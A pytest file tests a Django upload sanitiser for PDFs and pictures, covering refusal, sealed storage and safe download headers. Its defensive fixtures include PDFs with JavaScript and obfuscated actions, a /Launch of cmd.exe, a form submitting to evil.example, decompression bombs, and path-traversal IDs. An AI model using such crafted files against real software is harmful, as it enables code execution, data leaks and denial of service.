"""Papers: which documents are let in, how they lie, how they leave (SECURITY.md B6 to B8)."""

import contextlib
import io
import os
import time
import uuid
import zipfile
import zlib
from types import SimpleNamespace

import pytest
from django import forms
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from organisations import papers
from organisations.forms import PaperField
from organisations.papers import NotAPaper, prepare_paper
from organisations.sealing import WrongKey
from tests.casework.test_photos import HOSTILE as NOT_PHOTOS
from tests.casework.test_photos import JPEG, NAMES, PNG

MB = 1024 * 1024


def pdf(change=None, pages=2):
    """A PDF as a library writes it, changed by `change(writer)`."""
    writer, out = PdfWriter(), io.BytesIO()
    for _page in range(pages):
        writer.add_blank_page(595, 842)
    if change:
        change(writer)
    writer.write(out)
    return out.getvalue()


def by_hand(objects, streams=()):
    """A PDF put together by hand: plain objects, then (dictionary, packed bytes) pairs."""
    parts = [b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Count 1/Kids[3 0 R]>>\nendobj\n"
             b"3 0 obj\n<</Type/Page/Parent 2 0 R>>\nendobj\n", objects]
    for words, packed in streams:
        parts += [b"\n9 0 obj\n<<", words, b"/Length %d>>\nstream\n" % len(packed), packed, b"\nendstream\nendobj\n"]
    return b"".join(parts) + b"\ntrailer <</Root 1 0 R>>\nstartxref\n9\n%%EOF\n"


def open_with_script(writer):
    action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")})
    writer.root_object[NameObject("/OpenAction")] = action


def upload(name, body, content_type="application/pdf"):
    return SimpleUploadedFile(name, body, content_type=content_type)


def office(name):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(name, "x")
    return out.getvalue()


SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
OBJSTM = b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode"
GOOD = pdf()
HOSTILE_PDF = {
    "a script": pdf(open_with_script),
    "an attached file": pdf(lambda w: w.add_attachment("a.exe", b"MZ")),
    "a password": pdf(lambda w: w.encrypt("geheim")),
    "a script when it opens": by_hand(b"4 0 obj\n<</OpenAction " + SCRIPT + b">>\nendobj\n"),
    "a program to start": by_hand(b"4 0 obj\n<</S/Launch/F(cmd.exe)>>\nendobj\n"),
    "a form that sends": by_hand(b"4 0 obj\n<</S/SubmitForm/F(https://evil.example)>>\nendobj\n"),
    "a form with scripts": by_hand(b"4 0 obj\n<</AcroForm<</XFA 5 0 R>>>>\nendobj\n"),
    "a film": by_hand(b"4 0 obj\n<</Subtype/RichMedia>>\nendobj\n"),
    "only the script's text": by_hand(b"4 0 obj\n<</JS 5 0 R>>\nendobj\n"),
    "a script spelled in numbers": by_hand(b"4 0 obj\n<</S/#4aavaScr#69pt/J#53 5 0 R>>\nendobj\n"),
    "every letter in numbers": by_hand(b"4 0 obj\n<</S/" + b"".join(b"#%02x" % c for c in b"JavaScript") + b">>\nendobj\n"),
    "a script in an object stream": by_hand(b"", [(OBJSTM, zlib.compress(b"4 0 " + SCRIPT))]),
    "a script in an object stream that hides its type": by_hand(b"", [(b"/#4eoType/ObjStm/N 1/Fi#72st 4/Filter/FlateDecode", zlib.compress(b"4 0 " + SCRIPT))]),
    "an object stream without its type": by_hand(b"", [(b"/N 1/First 4/Filter/FlateDecode", zlib.compress(b"4 0 " + SCRIPT))]),
    "an object stream behind a comment": by_hand(b"", [(OBJSTM + b">>% obj <<", zlib.compress(b"4 0 " + SCRIPT))]),
    "an object stream that is not packed": by_hand(b"", [(b"/Type/ObjStm/N 1/First 4", b"4 0 " + SCRIPT)]),
    "an object stream packed twice": by_hand(b"", [(b"/Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]", zlib.compress(zlib.compress(b"4 0 " + SCRIPT)))]),
    "an object stream packed as text": by_hand(b"", [(b"/Type/ObjStm/N 1/First 4/Filter[/ASCIIHexDecode/FlateDecode]", zlib.compress(b"4 0 " + SCRIPT).hex().encode())]),
    "an object stream in another packing": by_hand(b"", [(b"/Type/ObjStm/N 1/First 4/Filter/LZWDecode", b"\x80\x0b\x60\x50")]),
    "an object stream that is broken": by_hand(b"", [(OBJSTM, b"x\x9cnonsense")]),
    "a second script behind many streams": by_hand(b"", [(b"/Filter/FlateDecode", zlib.compress(b"q Q"))] * 500 + [(OBJSTM, zlib.compress(b"4 0 " + SCRIPT))]),
    "half of it": GOOD[: len(GOOD) // 2],
    "only its head": b"%PDF-1.7\n",
    "something before its head": b"<html>" + GOOD,
}
NOT_PAPERS = {f"PDF with {what}": ("a.pdf", body, "application/pdf") for what, body in HOSTILE_PDF.items()} | {
    "a PDF called a page": ("a.html", GOOD, "text/html"),
    "a PDF called a photo": ("a.jpg", GOOD, "image/jpeg"),
    "a PDF declared a page": ("a.pdf", GOOD, "text/html"),
    "a PDF without an extension": ("a", GOOD, "application/pdf"),
    "a page called a PDF": ("a.pdf", b"<html><script>alert(1)</script></html>", "application/pdf"),
    "a photo called a PDF": ("a.pdf", JPEG, "application/pdf"),
    "a Word file": ("a.docx", office("word/document.xml"), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    "an Excel file": ("a.xlsx", office("xl/workbook.xml"), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    "an Excel file called a PDF": ("a.pdf", office("xl/workbook.xml"), "application/pdf"),
    "an old Word file": ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "application/msword"),
    "a text called a Word file": ("a.docx", b"hello", "text/plain"),
    "a table as text": ("a.csv", b"=1+1", "text/csv"),
    "a WebP": ("a.webp", b"RIFF\x10\0\0\0WEBPVP8 ", "image/webp"),
} | {f"as a photo: {what}": file for what, file in NOT_PHOTOS.items()}


@pytest.mark.parametrize("what", NOT_PAPERS)
def test_what_is_not_taken_is_refused_quickly_and_in_words(what):
    began = time.monotonic()
    with pytest.raises(NotAPaper) as refused:
        prepare_paper(upload(*NOT_PAPERS[what]))
    assert time.monotonic() - began < 2
    assert len(str(refused.value)) > 15


def test_the_refusal_of_a_word_file_says_what_is_taken():
    with pytest.raises(NotAPaper) as refused:
        prepare_paper(upload(*NOT_PAPERS["a Word file"]))
    assert "PDF, JPEG and PNG" in str(refused.value)


def flood(piece):
    return b"%PDF-1.7\n" + piece * (19 * MB // len(piece)) + b"\n%%EOF"


BOMBS = {
    "an object stream of gigabytes": lambda: by_hand(b"", [(OBJSTM, zlib.compress(bytes(64 * MB), 9) * 40)]),
    "twenty thousand small bombs": lambda: by_hand(b"", [(b"/Filter/FlateDecode", zlib.compress(b"1 0 " + b" " * 900_000, 9))] * 19_000),
    "nothing but streams": lambda: flood(b"stream endstream "),
    "streams that never end": lambda: flood(b"stream\n"),
    "slashes": lambda: flood(b"/"),
    "hashes": lambda: flood(b"#"),
    "letters in numbers": lambda: flood(b"#4a#61"),
    "almost the word": lambda: flood(b"/JavaScrip"),
    "almost the short word": lambda: flood(b"/JSX"),
    "pages without end": lambda: flood(b"/Type/Page "),
    "objects without end": lambda: flood(b"1 0 obj "),
    "noise": lambda: b"%PDF-1.7\n" + os.urandom(19 * MB) + b"\n%%EOF",
}


@pytest.mark.parametrize("what", BOMBS)
def test_a_bomb_of_20_mb_is_decided_within_two_seconds(what):
    file = upload("a.pdf", BOMBS[what]())
    assert file.size < 20 * MB
    began = time.process_time()
    with contextlib.suppress(NotAPaper):
        prepare_paper(file)
    assert time.process_time() - began < 2


def test_a_file_of_more_than_20_mb_is_refused_unread():
    big = upload("a.pdf", GOOD)
    big.size = 20 * MB + 1
    with pytest.raises(NotAPaper, match="20 MB"):
        prepare_paper(big)


def test_an_honest_pdf_is_kept_byte_for_byte():
    def furnish(writer):
        writer.add_metadata({"/Title": "2026 年度计划 (stream) #4a"})
        writer.add_outline_item(title="first", page_number=0)

    packed = io.BytesIO()
    writer = PdfWriter(clone_from=io.BytesIO(pdf(furnish, pages=3)))
    writer.compress_identical_objects()
    writer.write(packed)
    for body, pages in ((GOOD, 2), (pdf(furnish, pages=3), 3), (packed.getvalue(), 3)):
        paper = prepare_paper(upload("年度计划.PDF", body))
        assert (paper.body, paper.name, paper.kind, paper.size, paper.pages) == (body, "年度计划.pdf", papers.PDF, len(body), pages)
        assert len(PdfReader(io.BytesIO(paper.body)).pages) == pages
    prepare_paper(upload("a.pdf", by_hand(b"", [(OBJSTM, zlib.compress(b"4 0 <</Title(x)>>"))])))  # as those with a script, without


def test_a_pdf_of_our_own_press_is_taken():
    """What the product prints must be good enough to be handed in."""
    from weasyprint import HTML

    paper = prepare_paper(upload("report.pdf", HTML(string="<h1>年度报告</h1><p style='break-before:page'>二</p>").write_pdf()))
    assert (paper.kind, paper.pages) == (papers.PDF, 2)


@pytest.mark.parametrize(("name", "body", "content_type"), [("营业执照.jpg", JPEG, "image/jpeg"), ("营业执照.png", PNG, "image/png")])
def test_a_picture_is_drawn_anew(name, body, content_type):
    paper = prepare_paper(upload(name, body + b"<script>alert(1)</script>", content_type))
    assert (paper.name, paper.kind, b"script" in paper.body) == ("营业执照.jpg", papers.PICTURE, False)
    assert Image.open(io.BytesIO(paper.body)).format == "JPEG"


def test_a_file_that_was_cleaned_is_not_cleaned_again():
    paper = prepare_paper(upload("a.pdf", GOOD))
    assert prepare_paper(paper) is paper


# ---------- where it lies ----------


@pytest.fixture
def house():
    return SimpleNamespace(pk=7)


def test_a_paper_lies_sealed_and_bound_to_its_place(house, settings):
    one, two = uuid.uuid4(), uuid.uuid4()
    papers.keep(house, one, GOOD)
    papers.keep(house, two, JPEG)
    folder = settings.MEDIA_ROOT / "7" / "papers"
    assert sorted(path.name for path in folder.iterdir()) == sorted([str(one), str(two)])
    assert b"%PDF" not in (folder / str(one)).read_bytes()
    assert (papers.read(house, one), papers.read(house, str(two))) == (GOOD, JPEG)
    (folder / str(two)).write_bytes((folder / str(one)).read_bytes())
    with pytest.raises(WrongKey):
        papers.read(house, two)
    papers.keep(SimpleNamespace(pk=8), one, JPEG)
    (settings.MEDIA_ROOT / "8" / "papers" / str(one)).write_bytes((folder / str(one)).read_bytes())
    with pytest.raises(WrongKey):
        papers.read(SimpleNamespace(pk=8), one)
    papers.drop(house, one)
    papers.drop(house, one)
    assert [path.name for path in folder.iterdir()] == [str(two)]


@pytest.mark.parametrize("uid", ["../../etc/passwd", "..", "", "a", "7/../8", None])
def test_a_uid_that_is_none_leads_nowhere(house, uid, settings):
    for act in (lambda: papers.keep(house, uid, b"x"), lambda: papers.read(house, uid), lambda: papers.drop(house, uid)):
        with pytest.raises(ValueError):
            act()
    assert not settings.MEDIA_ROOT.exists()


def test_what_could_not_be_written_leaves_the_old_paper(house, monkeypatch, settings):
    uid = uuid.uuid4()
    papers.keep(house, uid, GOOD)
    monkeypatch.setattr(papers.os, "fsync", lambda _file: (_ for _ in ()).throw(OSError("disk full")))
    with pytest.raises(OSError):
        papers.keep(house, uid, JPEG)
    assert papers.read(house, uid) == GOOD
    assert [path.name for path in (settings.MEDIA_ROOT / "7" / "papers").iterdir()] == [str(uid)]


@pytest.mark.parametrize("name", NAMES)
def test_a_name_never_becomes_a_path_a_header_or_a_program(house, name, settings):
    uid = uuid.uuid4()
    papers.keep(house, uid, GOOD)
    file = upload("a.pdf", GOOD)
    file._name = name.removesuffix(".jpg") + ".pdf"
    clean = prepare_paper(file)
    assert len(clean.name) <= papers.LONGEST_NAME + 4 and clean.name.endswith(".pdf") and not clean.name.startswith(".")
    assert not set(clean.name) & set("/\\\r\n\0<>:\"|?*;%\u202e")
    # A name that came another way is cleaned again on its way out.
    answer = papers.answer(SimpleNamespace(organisation=house, uid=uid, name=name, kind=papers.PDF))
    header = answer["Content-Disposition"]
    assert header.startswith('attachment; filename="') and header.count('"') == 2 and header.count("filename*=UTF-8''") == 1
    assert "\r" not in header and "\n" not in header and header.isascii() and header.endswith(".pdf")
    assert [path.relative_to(settings.MEDIA_ROOT).as_posix() for path in settings.MEDIA_ROOT.rglob("*") if path.is_file()] == [f"7/papers/{uid}"]


def test_a_paper_leaves_as_a_download(house):
    uid = uuid.uuid4()
    papers.keep(house, uid, GOOD)
    answer = papers.answer(SimpleNamespace(organisation=house, uid=uid, name="年度计划.pdf", kind=papers.PDF))
    assert answer.content == GOOD
    assert {name: answer[name] for name in ("Content-Type", "X-Content-Type-Options", "Content-Disposition", "Content-Security-Policy")} == {
        "Content-Type": "application/pdf", "X-Content-Type-Options": "nosniff",
        "Content-Disposition": "attachment; filename=\"file.pdf\"; filename*=UTF-8''%E5%B9%B4%E5%BA%A6%E8%AE%A1%E5%88%92.pdf",
        "Content-Security-Policy": "default-src 'none'; sandbox"}


# ---------- the field ----------


class Handing(forms.Form):
    paper = PaperField(required=False)


def test_a_form_gives_the_clean_paper_or_a_sentence():
    good = Handing({}, {"paper": upload("计划.pdf", GOOD)})
    assert good.is_valid() and good.cleaned_data["paper"].name == "计划.pdf"
    assert Handing({}, {}).is_valid()
    bad = Handing({}, {"paper": upload(*NOT_PAPERS["a Word file"])})
    assert not bad.is_valid() and "Save it as PDF" in bad.errors["paper"][0]
    empty = Handing({}, {"paper": upload("a.pdf", b"")})
    assert empty.errors["paper"] == ["The submitted file is empty."]
    assert 'accept=".pdf,.jpg,.jpeg,.png"' in str(good["paper"])
